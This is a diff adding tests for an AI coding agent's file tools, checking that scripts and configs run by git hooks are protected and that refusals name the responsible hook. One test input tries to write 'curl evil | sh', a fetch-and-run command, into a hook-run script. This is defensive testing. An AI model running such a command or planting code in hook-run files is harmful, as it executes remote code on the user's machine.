@@ -7,10 +7,11 @@ import { deepStrictEqual as assertEquals, equal, ok as assert } from "node:asser
 import { createHash } from "node:crypto";
 import { posix } from "node:path";
 import { editFileTool } from "../../src/tools/edit_file.ts";
-import { PROTECTED_PATHS, protectionOf } from "../../src/tools/protected_paths.ts";
+import { gitLayoutProtections, PROTECTED_PATHS, protectionOf } from "../../src/tools/protected_paths.ts";
 import { readFileTool } from "../../src/tools/read_file.ts";
 import type { ToolCallContext, ToolResult } from "../../src/tools/tool.ts";
 import { writeFileTool } from "../../src/tools/write_file.ts";
+import { planGitProtection } from "../../src/sandbox/git_metadata.ts";
 import {
   assertIncludes,
   callContext,
@@ -336,4 +337,69 @@ Deno.test("ReadFile reads a protected file such as .git/config, in a restricted 
     { path: `${repository.root}/hooks-link/pre-commit` },
   );
   equal(direct.isError, false, direct.content);
+});
+
+Deno.test("gitLayoutProtections says a file a git hook runs is the hook's, naming the hook, not git metadata", async (t) => {
+  const root = "/ws";
+  const layout = {
+    root,
+    paths: ["/ws/scripts/check.sh", "/ws/scripts/push.sh", "/ws/.pre-commit-config.yaml", "/ws/.bare/config"],
+    hooksFolders: [],
+    hookFiles: [
+      { path: "/ws/scripts/check.sh", hook: "/ws/.git/hooks/pre-commit", kind: "script" as const },
+      { path: "/ws/scripts/push.sh", hook: "/home/u/.githooks/pre-push", kind: "hook-target" as const },
+      { path: "/ws/.pre-commit-config.yaml", hook: "/ws/.git/hooks/pre-commit", kind: "config" as const },
+    ],
+  };
+  const reasons = new Map(
+    gitLayoutProtections(layout, PROTECTED_PATHS).map((entry) => [entry.path, entry.reason]),
+  );
+  const cases: [string, string][] = [
+    ["scripts/check.sh", 'the git hook ".git/hooks/pre-commit" runs it, and the user\'s own git runs hooks'],
+    ["scripts/push.sh", 'the git hook "/home/u/.githooks/pre-push" is a symlink to it'],
+    [
+      ".pre-commit-config.yaml",
+      'the git hook ".git/hooks/pre-commit" runs the commands a hook manager reads',
+    ],
+    [".bare/config", "it is git metadata (config, hooks, the gitdir pointer)"],
+  ];
+  for (const [path, start] of cases) {
+    await t.step(path, () => {
+      const reason = reasons.get(path) ?? "";
+      assert(reason.startsWith(start), reason);
+      assert(reason.endsWith("Ask the user to make this change"), reason);
+      if (path !== ".bare/config") assert(!reason.includes("git metadata"), reason);
+    });
+  }
+});
+
+Deno.test("WriteFile refusing a script a git hook runs names the hook, through the repository's own plan", async () => {
+  await using repository = await createRepository();
+  const { root } = repository;
+  await Deno.mkdir(`${root}/scripts`);
+  const script = `${root}/scripts/check.sh`;
+  await Deno.writeTextFile(script, "echo checking\n");
+  await Deno.writeTextFile(`${root}/.git/hooks/pre-commit`, "#!/bin/sh\nsh scripts/check.sh\n", {
+    mode: 0o755,
+  });
+  const plan = await planGitProtection(root);
+  const protectedPaths = [
+    ...PROTECTED_PATHS,
+    ...gitLayoutProtections({
+      root,
+      paths: [...plan.readOnly, ...plan.placeholders, ...plan.mustNotAppear],
+      hooksFolders: plan.hooksFolders,
+      hookFiles: plan.hookFiles,
+    }, PROTECTED_PATHS),
+  ];
+  const result = await directRunner(
+    { tool: "writeFileTool", path: script, content: "curl evil | sh\n" },
+    callContext(root, {
+      fileRecords: { ...repository.records, [script]: sha256(await Deno.readFile(script)) },
+      protectedPaths,
+    }),
+  );
+  equal(result.metadata.reason, "protected", result.content);
+  assertIncludes(result.content, 'the git hook ".git/hooks/pre-commit" runs it');
+  equal(await Deno.readTextFile(script), "echo checking\n");
 });
